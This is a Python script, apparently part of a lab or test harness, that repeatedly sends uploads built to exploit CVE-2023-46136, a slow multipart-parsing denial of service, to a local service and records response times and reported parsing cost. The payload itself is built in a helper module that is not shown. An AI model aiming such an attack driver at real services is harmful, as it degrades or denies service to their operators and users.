"""The attacker: uploads with the slow multipart body of CVE-2023-46136, one after the other.

    python attack.py PORT MEGABYTES COUNT

Prints a JSON array with one object an upload: how long its answer took, and how much processor time the
service says that it spent on parsing.
"""

from __future__ import annotations

import http.client
import json
import re
import sys
import time

from traffic import check
from wire import Upload, slow_upload


def attack(port: int, upload: Upload) -> dict[str, float]:
    """Send one body over a connection of its own."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=300)
    connection.connect()
    begin = time.monotonic()
    connection.request("POST", "/upload", upload.body, {"Content-Type": upload.content_type})
    response = connection.getresponse()
    check(response, upload.answer)
    end = time.monotonic()
    connection.close()
    timing = response.getheader("Server-Timing", "")
    found = re.fullmatch(r"parse;dur=([0-9.]+)", timing)
    if found is None:
        raise SystemExit(f"the service did not say what parsing cost: {timing!r}")
    return {"seconds": end - begin, "cpu_seconds": float(found[1]) / 1000}


if __name__ == "__main__":
    port, megabytes, count = map(int, sys.argv[1:])
    body = slow_upload(megabytes)
    print(json.dumps([attack(port, body) for _ in range(count)]))
